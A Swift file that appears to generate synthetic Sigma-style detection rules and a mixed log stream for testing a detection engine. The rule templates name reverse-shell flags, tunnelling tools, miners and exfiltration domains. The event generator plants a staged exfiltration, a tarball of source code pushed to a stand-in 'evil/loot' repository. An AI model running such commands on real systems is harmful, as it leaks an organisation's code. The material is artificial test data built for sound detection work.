import SluiceCore

/// Deterministic pseudo-random numbers.
struct Rng {
    var s: UInt64
    mutating func next() -> UInt64 {
        s &+= 0x9E37_79B9_7F4A_7C15
        var z = s
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
    mutating func int(_ n: Int) -> Int { Int(next() % UInt64(n)) }
    mutating func pick<T>(_ a: [T]) -> T { a[int(a.count)] }
}

/// 300 community-style single-event rules, generated from templates in SigmaHQ's style
/// (Linux process creation, proxy, DNS, GitHub audit), with the modifiers such rules use.
enum CommunityRules {
    static let tools = ["nmap", "masscan", "hydra", "john", "hashcat", "chisel", "frpc", "ligolo", "sliver-client", "linpeas.sh",
                        "pspy64", "mimipenguin", "socat", "ncat", "tcpdump", "proxychains", "sshuttle", "gost", "iodine", "dnscat",
                        "rclone", "megacmd", "gsutil", "kinsing", "pnscan", "zgrab2", "tsunami", "crictl", "nsenter", "unshare",
                        "setcap", "getcap", "insmod", "modprobe", "xmrig", "minerd", "tor", "openvpn", "wireguard", "bore"]
    static let dirs = ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/user/", "/home/", "/root/", "/opt/", "/srv/"]
    static let flags = ["--payload", "-e /bin/sh", "--exec", "--upload", "--reverse", "-R 0.0.0.0", "--listen", "--proxy socks5://",
                        "--no-check-certificate", "-k -X POST", "--data-binary @", "copy s3://", "cp gs://", "sync remote:"]
    static let domains = ["pastebin.com", "transfer.sh", "file.io", "anonfiles.com", "gofile.io", "ngrok.io", "trycloudflare.com",
                          "duckdns.org", "no-ip.org", "serveo.net", "localtunnel.me", "requestbin.net", "webhook.site",
                          "pipedream.net", "interact.sh", "oast.fun", "burpcollaborator.net", "mega.nz", "sendspace.com", "wetransfer.com"]
    static let actions = ["org.remove_member", "org.update_member", "repo.destroy", "repo.archived", "protected_branch.destroy",
                          "org.disable_saml", "org.oauth_app_access_approved", "hook.create", "integration_installation.create",
                          "repo.add_member", "team.add_repository", "org.invite_member", "business.remove_admin", "secret_scanning.disable"]

    static func generate(count: Int = 300) -> String {
        var r = Rng(s: 300)
        var docs: [String] = []
        for i in 0..<count {
            let id = String(format: "c0ffee00-0000-4000-8000-%012d", i)
            var d: String
            switch i % 10 {
            case 0...5:
                let tool = r.pick(tools), dir = r.pick(dirs), flag = r.pick(flags)
                switch i % 6 {
                case 0: d = "sel:\n        Image|endswith: '/\(tool)'\n    filter:\n        ParentImage|endswith: ['/ansible-playbook', '/salt-minion']\n    condition: sel and not filter"
                case 1: d = "sel_img:\n        Image|startswith: '\(dir)'\n    sel_cmd:\n        CommandLine|contains: '\(flag)'\n    condition: all of sel_*"
                case 2: d = "sel:\n        CommandLine|contains|all:\n            - '\(tool)'\n            - '\(flag)'\n    condition: sel"
                case 3: d = "sel:\n        CommandLine|re: '\(tool.replacingOccurrences(of: ".", with: "\\\\."))\\\\s+.*\(dir)'\n    condition: sel"
                case 4: d = "sel:\n        - Image|endswith: '/\(tool)'\n        - CommandLine|contains: ' \(tool) '\n    filter_root:\n        User: root\n        CurrentDirectory|startswith: '/etc/'\n    condition: sel and not filter_root"
                default: d = "sel:\n        ParentImage|endswith: ['/nginx', '/apache2', '/php-fpm', '/node']\n        Image|endswith: ['/sh', '/bash', '/\(tool)']\n    condition: sel"
                }
                docs.append(rule(id, "Suspicious \(tool) use \(i)", "category: process_creation\n    product: linux", d))
            case 6, 7:
                let dom = r.pick(domains)
                let d2 = i % 2 == 0
                    ? "sel:\n        cs-host|endswith: '\(dom)'\n        cs-method: [POST, PUT]\n    condition: sel"
                    : "sel:\n        c-uri|contains: '\(dom)/'\n        c-useragent|startswith: ['curl/', 'python-requests/', 'Go-http-client/', 'Wget/']\n    condition: sel"
                docs.append(rule(id, "Upload to \(dom) \(i)", "category: proxy", d2))
            case 8:
                let dom = r.pick(domains)
                docs.append(rule(id, "DNS query for \(dom) \(i)", "category: dns", "sel:\n        query|endswith: ['.\(dom)', '\(dom)']\n    condition: sel"))
            default:
                let a = r.pick(actions)
                docs.append(rule(id, "GitHub \(a) \(i)", "product: github\n    service: audit", "sel:\n        action: '\(a)'\n    filter:\n        actor|endswith: '[bot]'\n    condition: sel and not filter"))
            }
        }
        return docs.joined(separator: "\n---\n")
    }

    static func rule(_ id: String, _ title: String, _ ls: String, _ det: String) -> String {
        "title: \(title)\nid: \(id)\nstatus: test\nlevel: medium\ntags: [attack.execution]\nlogsource:\n    \(ls)\ndetection:\n    \(det)\n"
    }
}

/// A mixed stream: process creation (40%), proxy (25%), DNS (20%), GitHub audit (15%) for a
/// 300-person company, with a PAT clone burst, a staging-then-upload and upload volume in it.
enum MixedStream {
    static let k = (
        dataset: FieldKey("event.dataset"), category: FieldKey("event.category"), type: FieldKey("event.type"),
        exe: FieldKey("process.executable"), cmd: FieldKey("process.command_line"), user: FieldKey("user.name"),
        host: FieldKey("host.name"), pid: FieldKey("process.pid"), parent: FieldKey("process.parent.executable"),
        url: FieldKey("url.full"), domain: FieldKey("url.domain"), method: FieldKey("http.request.method"),
        ua: FieldKey("user_agent.original"), sip: FieldKey("source.ip"), out: FieldKey("source.bytes"), inb: FieldKey("destination.bytes"),
        qname: FieldKey("dns.question.name"), qtype: FieldKey("dns.question.type"),
        action: FieldKey("event.action"), repo: FieldKey("github.repo"), pat: FieldKey("github.programmatic_access_type"),
        token: FieldKey("github.hashed_token"), asn: FieldKey("source.as.number"), pub: FieldKey("github.repository_public")
    )
    static let commands: [(String, String)] = [
        ("/usr/bin/git", "git clone https://github.com/acme/payments.git"), ("/usr/bin/git", "git fetch origin"),
        ("/usr/bin/ls", "ls -la /srv/app"), ("/usr/bin/python3", "python3 manage.py migrate"), ("/usr/bin/bash", "bash -c make test"),
        ("/usr/bin/curl", "curl -fsS https://pypi.org/simple/requests/"), ("/usr/bin/ssh", "ssh deploy@10.2.3.4"),
        ("/usr/bin/tar", "tar -xzf release.tgz"), ("/usr/bin/systemctl", "systemctl status nginx"), ("/usr/bin/grep", "grep -r TODO src"),
        ("/usr/bin/node", "node server.js"), ("/usr/bin/docker", "docker ps"), ("/usr/bin/sudo", "sudo apt-get update"),
        ("/usr/bin/git", "git push git@github.com:acme/payments.git main"), ("/usr/bin/cat", "cat /etc/os-release"), ("/usr/bin/go", "go build ./..."),
    ]
    static let webDomains = ["www.google.com", "github.com", "api.github.com", "pypi.org", "registry.npmjs.org", "slack.com",
                             "login.microsoftonline.com", "objects.githubusercontent.com", "gitlab.com", "docs.python.org", "s3.amazonaws.com"]

    static func events(_ n: Int, start: Int64, span: Int64) -> [Event] {
        var r = Rng(s: 2025)
        var out: [Event] = []
        out.reserveCapacity(n)
        let users = (0..<300).map { "user\($0)" }
        let hosts = (0..<400).map { $0 < 300 ? "laptop-\($0)" : "build-\($0 - 300)" }
        for i in 0..<n {
            let t = start + Int64(Double(i) / Double(n) * Double(span))
            var e = Event(timestamp: t)
            let u = r.pick(users), h = r.pick(hosts)
            let roll = r.int(100)
            if roll < 40 {
                var (exe, cmd) = r.pick(commands)
                if i % 5000 == 17 { (exe, cmd) = ("/usr/bin/tar", "tar -czf /tmp/src.tgz /srv/git") }
                if i % 5000 == 18 { (exe, cmd) = ("/usr/bin/git", "git push https://github.com/evil/loot.git main") }
                e.append(k.dataset, .string("auditd.log")); e.append(k.category, .array([.string("process")])); e.append(k.type, .array([.string("start")]))
                e.append(k.exe, .string(exe)); e.append(k.cmd, .string(cmd)); e.append(k.user, .string(u)); e.append(k.host, .string(h))
                e.append(k.pid, .int(Int64(1000 + r.int(60000)))); e.append(k.parent, .string("/usr/bin/bash"))
            } else if roll < 65 {
                let d = r.pick(webDomains)
                e.append(k.dataset, .string("squid.access")); e.append(k.category, .array([.string("network"), .string("web")]))
                e.append(k.url, .string("https://\(d)/path/\(r.int(1000))?q=\(r.int(100))")); e.append(k.domain, .string(d))
                e.append(k.method, .string(r.int(10) == 0 ? "POST" : "GET")); e.append(k.ua, .string("Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"))
                e.append(k.sip, .string("10.1.\(r.int(4)).\(r.int(250))")); e.append(k.out, .int(Int64(200 + r.int(5000))))
                e.append(k.inb, .int(Int64(1000 + r.int(500_000)))); e.append(k.host, .string(h))
            } else if roll < 85 {
                e.append(k.dataset, .string("bind.query")); e.append(k.category, .array([.string("network")]))
                e.append(k.qname, .string(r.pick(webDomains))); e.append(k.qtype, .string("A"))
                e.append(k.sip, .string("10.1.\(r.int(4)).\(r.int(250))")); e.append(k.host, .string(h))
            } else {
                let burst = i % 20_000 < 400
                e.append(k.dataset, .string("github.audit"))
                e.append(k.action, .string(r.int(20) == 0 ? "git.push" : "git.clone"))
                e.append(k.user, .string(burst ? "mallory" : u))
                e.append(k.repo, .string("acme/repo-\(burst ? i % 997 : r.int(40))"))
                e.append(k.pat, .string(r.int(3) == 0 ? "Personal access token (classic)" : "SSH key"))
                e.append(k.token, .string("tok-\(burst ? 9 : r.int(600))")); e.append(k.asn, .int(Int64(64500 + r.int(3))))
                e.append(k.sip, .string("203.0.113.\(r.int(250))")); e.append(k.pub, .bool(false))
            }
            out.append(e)
        }
        return out
    }
}
